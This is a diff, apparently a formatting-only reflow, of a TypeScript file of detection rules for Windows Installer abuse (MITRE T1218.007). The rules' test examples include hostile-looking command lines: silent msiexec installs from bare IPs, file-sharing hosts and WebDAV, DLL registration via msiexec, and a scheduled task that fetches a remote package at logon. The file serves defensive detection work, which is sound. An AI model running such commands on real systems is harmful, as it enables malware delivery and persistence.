@@ -44,23 +44,39 @@ export const INSTALLER: readonly Row[] = [
     misses: ['msiexec /i C:\\deploy\\a.msi /qn'],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
-      return found !== undefined && !/^(?:vendor|intranet|private)$/.test(hostClass(place(found))) && !isRelease(place(found)) ? found : undefined;
+      return found !== undefined &&
+        !/^(?:vendor|intranet|private)$/.test(hostClass(place(found))) &&
+        !isRelease(place(found))
+        ? found
+        : undefined;
     }),
   }),
   behaviour('msi-remote-odd', ['msi-place', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
-    reason: 'The package comes from an address that no vendor ships software from: a bare address, a number, a free or cheap host, a tunnel.',
+    reason:
+      'The package comes from an address that no vendor ships software from: a bare address, a number, a free or cheap host, a tunnel.',
     benign: [],
-    hits: ['msiexec /q /i http://203.0.113.9/setup.msi', 'msiexec /i http://3405803785/a.msi', 'msiexec /qn /i http://[2001:db8::13]/a.msi', 'msiexec /passive /i https://cdn.discordapp.com/attachments/1/2/a.msi'],
+    hits: [
+      'msiexec /q /i http://203.0.113.9/setup.msi',
+      'msiexec /i http://3405803785/a.msi',
+      'msiexec /qn /i http://[2001:db8::13]/a.msi',
+      'msiexec /passive /i https://cdn.discordapp.com/attachments/1/2/a.msi',
+    ],
     misses: ['msiexec /i https://pkg.example.net/a.msi', 'msiexec /i https://download.microsoft.com/a.msi /qn'],
     look: onProcess(MSI, (process) => {
       const found = remoteOf(process);
-      return found !== undefined && isOddHost(place(found)) && hostClass(place(found)) !== 'free-host' ? found : undefined;
+      return found !== undefined && isOddHost(place(found)) && hostClass(place(found)) !== 'free-host'
+        ? found
+        : undefined;
     }),
   }),
   behaviour('msi-remote-address', ['msi-place', 'T1218.007', 'lateral-movement', 'high', 'medium'], {
-    reason: 'The package comes from a bare address inside the network: somebody serves it from a machine, not from a software share.',
+    reason:
+      'The package comes from a bare address inside the network: somebody serves it from a machine, not from a software share.',
     benign: ['a small site without names'],
-    hits: ['msiexec /qn /i http://10.20.99.5:8000/b.msi', 'wmic product call install true,"","http://10.20.99.5/b.msi"'],
+    hits: [
+      'msiexec /qn /i http://10.20.99.5:8000/b.msi',
+      'wmic product call install true,"","http://10.20.99.5/b.msi"',
+    ],
     misses: ['msiexec /i https://artifactory.corp.example/a.msi /qn'],
     look: onProcess(MSI, (process) => {
       const found = remoteOf(process);
@@ -70,20 +86,31 @@ export const INSTALLER: readonly Row[] = [
   behaviour('msi-shared-host', ['msi-place', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
     reason: 'The package lies on a site where anybody can put files (a code host, a file share, cloud storage).',
     benign: ['releases that a project publishes on its code host'],
-    hits: ['msiexec /i https://bitbucket.org/x/r/raw/x/a.msi /qn', 'msiexec /q /i "https://www.dropbox.com/scl/fi/a/b.msi?dl=1"'],
+    hits: [
+      'msiexec /i https://bitbucket.org/x/r/raw/x/a.msi /qn',
+      'msiexec /q /i "https://www.dropbox.com/scl/fi/a/b.msi?dl=1"',
+    ],
     misses: ['msiexec /i https://github.com/PowerShell/PowerShell/releases/download/v7/p.msi /quiet'],
     look: onProcess(MSI, (process) => {
       const found = remoteOf(process);
       if (found === undefined) return undefined;
       const url = place(found);
-      const isShared = !isRelease(url) && (/\/\/(?:[\w.-]*\.)?(?:dropbox|bitbucket|gitlab|sourceforge|mediafire|onedrive|1drv|drive\.google|docs\.google|firebasestorage\.googleapis|storage\.googleapis|raw\.githubusercontent|gist\.github)/.test(url) || /\/raw\//.test(url));
+      const isShared =
+        !isRelease(url) &&
+        (/\/\/(?:[\w.-]*\.)?(?:dropbox|bitbucket|gitlab|sourceforge|mediafire|onedrive|1drv|drive\.google|docs\.google|firebasestorage\.googleapis|storage\.googleapis|raw\.githubusercontent|gist\.github)/.test(
+          url,
+        ) ||
+          /\/raw\//.test(url));
       return isShared ? found : undefined;
     }),
   }),
   behaviour('msi-webdav', ['msi-place', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
     reason: 'The package lies on a web server that is opened like a share.',
     benign: [],
-    hits: ['msiexec /i \\\\203.0.113.9@80\\webdav\\a.msi /quiet', 'msiexec /i \\\\host.example.net@SSL\\DavWWWRoot\\a.msi'],
+    hits: [
+      'msiexec /i \\\\203.0.113.9@80\\webdav\\a.msi /quiet',
+      'msiexec /i \\\\host.example.net@SSL\\DavWWWRoot\\a.msi',
+    ],
     misses: ['msiexec /i \\\\fs01\\software\\a.msi /qn'],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
@@ -97,17 +124,34 @@ export const INSTALLER: readonly Row[] = [
     misses: ['msiexec /i https://pkg.example.net/a.msi', 'msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi /qn'],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
-      return found !== undefined && isQuiet(process) && hostClass(place(found)) === 'name' && !isSoftwareHost(place(found)) ? found : undefined;
+      return found !== undefined &&
+        isQuiet(process) &&
+        hostClass(place(found)) === 'name' &&
+        !isSoftwareHost(place(found))
+        ? found
+        : undefined;
     }),
   }),
   behaviour('msi-no-package-name', ['msi-manner', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
-    reason: 'What is put in does not look like a package: its address ends in something else, or carries the name of the computer or user.',
+    reason:
+      'What is put in does not look like a package: its address ends in something else, or carries the name of the computer or user.',
     benign: ['short links of a vendor'],
-    hits: ['msiexec /quiet /package http://203.0.113.9/fix.png', 'msiexec /q /i http://a.example.net:8080/XTzRn/DESKTOP-1A2B3C?jdoe'],
-    misses: ['msiexec /i https://aka.ms/installazurecliwindowsx64 /quiet', 'msiexec /i https://a.example.net/a.msi?token=1'],
+    hits: [
+      'msiexec /quiet /package http://203.0.113.9/fix.png',
+      'msiexec /q /i http://a.example.net:8080/XTzRn/DESKTOP-1A2B3C?jdoe',
+    ],
+    misses: [
+      'msiexec /i https://aka.ms/installazurecliwindowsx64 /quiet',
+      'msiexec /i https://a.example.net/a.msi?token=1',
+    ],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
-      if (found === undefined || /\.ms[ipt](?:$|[?"'}#&])/.test(place(found)) || /^(?:vendor|intranet)$/.test(hostClass(place(found)))) return undefined;
+      if (
+        found === undefined ||
+        /\.ms[ipt](?:$|[?"'}#&])/.test(place(found)) ||
+        /^(?:vendor|intranet)$/.test(hostClass(place(found)))
+      )
+        return undefined;
       return found;
     }),
   }),
@@ -118,7 +162,8 @@ export const INSTALLER: readonly Row[] = [
     misses: ['MsiExec.exe /I https://a.example.net/a.msi /QN', 'msiexec /i HTTP://a.example.net/a.msi'],
     look: onProcess(['msiexec'], (process) => {
       const scheme = remoteOf(process)?.text.match(/https?(?=:)/i)?.[0];
-      const isMixed = (text: string): boolean => /[a-z][A-Z]+[a-z]+[A-Z]/.test(text) || /^[a-z]+[A-Z]+[a-z]+[A-Z]*$/.test(text);
+      const isMixed = (text: string): boolean =>
+        /[a-z][A-Z]+[a-z]+[A-Z]/.test(text) || /^[a-z]+[A-Z]+[a-z]+[A-Z]*$/.test(text);
       const name = process.program.replace(/^.*[\\/]|\.exe$/gi, '');
       if (scheme !== undefined && isMixed(scheme)) return process;
       return isMixed(name) && !/^(?:MsiExec|msiExec|MSIexec|Msiexec)$/.test(name) ? process : undefined;
@@ -132,7 +177,13 @@ export const INSTALLER: readonly Row[] = [
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
       const port = found === undefined ? undefined : portOf(place(found));
-      return found !== undefined && port !== undefined && port !== 80 && port !== 443 && hostClass(place(found)) !== 'intranet' ? found : undefined;
+      return found !== undefined &&
+        port !== undefined &&
+        port !== 80 &&
+        port !== 443 &&
+        hostClass(place(found)) !== 'intranet'
+        ? found
+        : undefined;
     }),
   }),
   behaviour('msi-library-call', ['msi-library', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
@@ -140,18 +191,34 @@ export const INSTALLER: readonly Row[] = [
     benign: ['very old installers register their own library'],
     hits: ['msiexec /y C:\\Users\\Public\\a.dll', 'msiexec.exe /z "C:\\x\\b.dll"'],
     misses: ['msiexec /unreg', 'msiexec /x {90160000-0011-0000-0000-0000000FF1CE}'],
-    look: onProcess(['msiexec'], ({ args }) => args.find(({ lower }, at) => /^[-/][yz]$/.test(lower) && args[at + 1] !== undefined) ?? args.find(({ lower }) => /^[-/][yz]["a-z%\\:].{0,300}\.(?:dll|ocx|cpl|dat|txt|log)/.test(lower))),
+    look: onProcess(
+      ['msiexec'],
+      ({ args }) =>
+        args.find(({ lower }, at) => /^[-/][yz]$/.test(lower) && args[at + 1] !== undefined) ??
+        args.find(({ lower }) => /^[-/][yz]["a-z%\\:].{0,300}\.(?:dll|ocx|cpl|dat|txt|log)/.test(lower)),
+    ),
   }),
   behaviour('msi-user-folder', ['msi-local', 'T1218.007', 'defense-evasion', 'medium', 'medium'], {
     reason: 'A package in a folder that everybody can write to is put in quietly.',
     benign: ['deployment scripts that fetched it there', 'update programs'],
-    hits: ['msiexec /q /i "C:\\Users\\Public\\a.msi"', 'msiexec /qn /i %public%\\t.msi', 'msiexec /fv C:\\ProgramData\\{7D}\\svc.msi /qn'],
-    misses: ['msiexec /i C:\\deploy\\a.msi /qn', 'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn'],
+    hits: [
+      'msiexec /q /i "C:\\Users\\Public\\a.msi"',
+      'msiexec /qn /i %public%\\t.msi',
+      'msiexec /fv C:\\ProgramData\\{7D}\\svc.msi /qn',
+    ],
+    misses: [
+      'msiexec /i C:\\deploy\\a.msi /qn',
+      'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn',
+    ],
     look: onProcess(['msiexec'], (process) => {
       const found = packageOf(process);
       if (found === undefined || !isQuiet(process) || !isWritablePlace(found.lower)) return undefined;
       const classes = pathClasses(found.lower);
-      return classes.includes('package-cache') || classes.includes('installer-temp') || (classes.includes('temp') && /\\windows\\temp\\/.test(found.lower)) ? undefined : found;
+      return classes.includes('package-cache') ||
+        classes.includes('installer-temp') ||
+        (classes.includes('temp') && /\\windows\\temp\\/.test(found.lower))
+        ? undefined
+        : found;
     }),
   }),
   behaviour('msi-public-folder', ['msi-local', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
@@ -162,7 +229,11 @@ export const INSTALLER: readonly Row[] = [
     look: onProcess(['msiexec'], (process) => {
       const found = packageOf(process);
       const classes = found === undefined ? [] : pathClasses(found.lower);
-      const isPublic = classes.includes('public') || classes.includes('recycle-bin') || /[\\/]programdata[\\/](?:\{|[^\\/]{1,30}\.ms)/.test(found?.lower ?? '') || /^%public%/.test(found?.lower ?? '');
+      const isPublic =
+        classes.includes('public') ||
+        classes.includes('recycle-bin') ||
+        /[\\/]programdata[\\/](?:\{|[^\\/]{1,30}\.ms)/.test(found?.lower ?? '') ||
+        /^%public%/.test(found?.lower ?? '');
       return isPublic && isQuiet(process) && !classes.includes('package-cache') ? found : undefined;
     }),
   }),
@@ -171,23 +242,40 @@ export const INSTALLER: readonly Row[] = [
     benign: [],
     hits: ['msiexec /i "C:\\x\\7zip.msi" TRANSFORMS="https://a.example.net/t.mst" /qb'],
     misses: ['msiexec /i a.msi TRANSFORMS=\\\\fs01\\sw\\corp.mst /qn', 'msiexec /i a.msi TRANSFORMS=corp.mst'],
-    look: onProcess(['msiexec'], ({ args }) => args.find(({ lower }) => /^transforms="?(?:https?:|\\\\[^\\]{1,200}@)/.test(lower))),
+    look: onProcess(['msiexec'], ({ args }) =>
+      args.find(({ lower }) => /^transforms="?(?:https?:|\\\\[^\\]{1,200}@)/.test(lower)),
+    ),
   }),
   behaviour('msi-remote-call', ['msi-place', 'T1218.007', 'execution', 'high', 'medium'], {
     reason: 'A package is put in through WMI or a script object instead of msiexec.',
     benign: ['management tools'],
-    hits: ['wmic product call install true,"","C:\\x\\a.msi"', 'powershell "Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments @{ PackageLocation = \'C:\\x.msi\' }"'],
+    hits: [
+      'wmic product call install true,"","C:\\x\\a.msi"',
+      'powershell "Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments @{ PackageLocation = \'C:\\x.msi\' }"',
+    ],
     misses: ['wmic product get name'],
-    look: onProcess(['wmic', 'invoke-cimmethod', 'invoke-wmimethod', '.installproduct'], ({ args, name }) => (name === '.installproduct' || (args.some(({ lower }) => /^(?:product|win32_product)$/.test(lower)) && args.some(({ lower }) => lower === 'install' || lower === 'admin' || lower === 'advertise')) ? args[0] : undefined)),
+    look: onProcess(['wmic', 'invoke-cimmethod', 'invoke-wmimethod', '.installproduct'], ({ args, name }) =>
+      name === '.installproduct' ||
+      (args.some(({ lower }) => /^(?:product|win32_product)$/.test(lower)) &&
+        args.some(({ lower }) => lower === 'install' || lower === 'admin' || lower === 'advertise'))
+        ? args[0]
+        : undefined,
+    ),
   }),
   behaviour('msi-from-odd-parent', ['msi-parent', 'T1218.007', 'execution', 'high', 'medium'], {
-    reason: 'A program that is no installer (a script host, a scheduled task, a Run key, forfiles) starts Windows Installer with a package from the network.',
+    reason:
+      'A program that is no installer (a script host, a scheduled task, a Run key, forfiles) starts Windows Installer with a package from the network.',
     benign: [],
-    hits: ['schtasks /create /tn a /sc onlogon /tr "msiexec /q /i http://a.example.net/u.msi"', 'forfiles /p c:\\windows /m notepad.exe /c "msiexec /i http://a.example.net/m.msi /qn"'],
+    hits: [
+      'schtasks /create /tn a /sc onlogon /tr "msiexec /q /i http://a.example.net/u.msi"',
+      'forfiles /p c:\\windows /m notepad.exe /c "msiexec /i http://a.example.net/m.msi /qn"',
+    ],
     misses: ['cmd /c msiexec /i a.msi /qn'],
     look: onProcess(['msiexec'], (process, { processes }) => {
       const parent = process.parent === undefined ? undefined : processes[process.parent];
-      const isOdd = parent !== undefined && /^(?:schtasks|reg|forfiles|mshta|wmic|rundll32|pcalua|wscript|cscript|at|sc|\.run)$/.test(parent.name);
+      const isOdd =
+        parent !== undefined &&
+        /^(?:schtasks|reg|forfiles|mshta|wmic|rundll32|pcalua|wscript|cscript|at|sc|\.run)$/.test(parent.name);
       return isOdd ? remoteOf(process) : undefined;
     }),
   }),
@@ -197,32 +285,50 @@ export const INSTALLER: readonly Row[] = [
     misses: ['msiexec /i http://203.0.113.9/a.msi /qn'],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
-      return found !== undefined && hostClass(place(found)) === 'vendor' && place(found).startsWith('https:') ? found : undefined;
+      return found !== undefined && hostClass(place(found)) === 'vendor' && place(found).startsWith('https:')
+        ? found
+        : undefined;
     }),
   }),
   counter('ordinary-company-package', 'medium', {
-    reason: 'The package comes from a server with a name inside the company (an artifact store, a software distribution point).',
+    reason:
+      'The package comes from a server with a name inside the company (an artifact store, a software distribution point).',
     hits: ['msiexec /package https://sccm01.corp.example/ccmsetup.msi /quiet', 'msiexec /i \\\\fs01\\sw\\a.msi /qn'],
     misses: ['msiexec /i http://10.20.99.5/a.msi'],
     look: onProcess(['msiexec'], (process) => {
       const found = remoteOf(process);
-      return found !== undefined && (hostClass(place(found)) === 'intranet' || isSoftwareHost(place(found)) || isRelease(place(found))) && !isWebDav(found.lower) ? found : undefined;
+      return found !== undefined &&
+        (hostClass(place(found)) === 'intranet' || isSoftwareHost(place(found)) || isRelease(place(found))) &&
+        !isWebDav(found.lower)
+        ? found
+        : undefined;
     }),
   }),
   counter('ordinary-package-folder', 'medium', {
     reason: 'The package lies where deployment tools keep theirs.',
-    hits: ['msiexec.exe /i "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\Staging\\a.msi" /qn', 'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn'],
+    hits: [
+      'msiexec.exe /i "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\Staging\\a.msi" /qn',
+      'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn',
+    ],
     misses: ['msiexec /i C:\\Users\\Public\\a.msi /qn'],
     look: onProcess(['msiexec'], (process) => {
       const found = packageOf(process);
-      return found !== undefined && pathClasses(found.lower).some((one) => one === 'package-cache' || one === 'program-files') ? found : undefined;
+      return found !== undefined &&
+        pathClasses(found.lower).some((one) => one === 'package-cache' || one === 'program-files')
+        ? found
+        : undefined;
     }),
   }),
   counter('ordinary-product-code', 'medium', {
     reason: 'A product that is there already is repaired or removed by its code.',
     hits: ['msiexec.exe /x {90160000-0011-0000-0000-0000000FF1CE} /qn'],
     misses: ['msiexec /i a.msi'],
-    look: onProcess(['msiexec'], ({ args }) => args.find(({ lower }, at) => /^(?:[-/](?:x|f\w*|i|uninstall))?"?\{[0-9a-f]{8}-[0-9a-f-]{27}\}/.test(lower) && (lower[0] !== '{' || at > 0))),
+    look: onProcess(['msiexec'], ({ args }) =>
+      args.find(
+        ({ lower }, at) =>
+          /^(?:[-/](?:x|f\w*|i|uninstall))?"?\{[0-9a-f]{8}-[0-9a-f-]{27}\}/.test(lower) && (lower[0] !== '{' || at > 0),
+      ),
+    ),
   }),
 ];
 
@@ -233,6 +339,9 @@ function isRelease(url: string): boolean {
 
 /** Names by which companies and projects call the servers of their software. */
 function isSoftwareHost(url: string): boolean {
-  return /^https?:\/\/(?:downloads?|dl|packages?|pkgs?|releases?|repo|artifactory|nexus|sccm\d*|wsus\d*|mecm\d*|deploy|software|updates?|install(?:er|ers)?|mirror|s3|cdn|get|artifacts?)\d*\.(?!top|xyz|click)[\w.-]{4,}\.(?:com|io|org|net|dev|de|co\.uk|local|cloud|ai)(?::443)?\//.test(url) && url.startsWith('https:');
+  return (
+    /^https?:\/\/(?:downloads?|dl|packages?|pkgs?|releases?|repo|artifactory|nexus|sccm\d*|wsus\d*|mecm\d*|deploy|software|updates?|install(?:er|ers)?|mirror|s3|cdn|get|artifacts?)\d*\.(?!top|xyz|click)[\w.-]{4,}\.(?:com|io|org|net|dev|de|co\.uk|local|cloud|ai)(?::443)?\//.test(
+      url,
+    ) && url.startsWith('https:')
+  );
 }
-
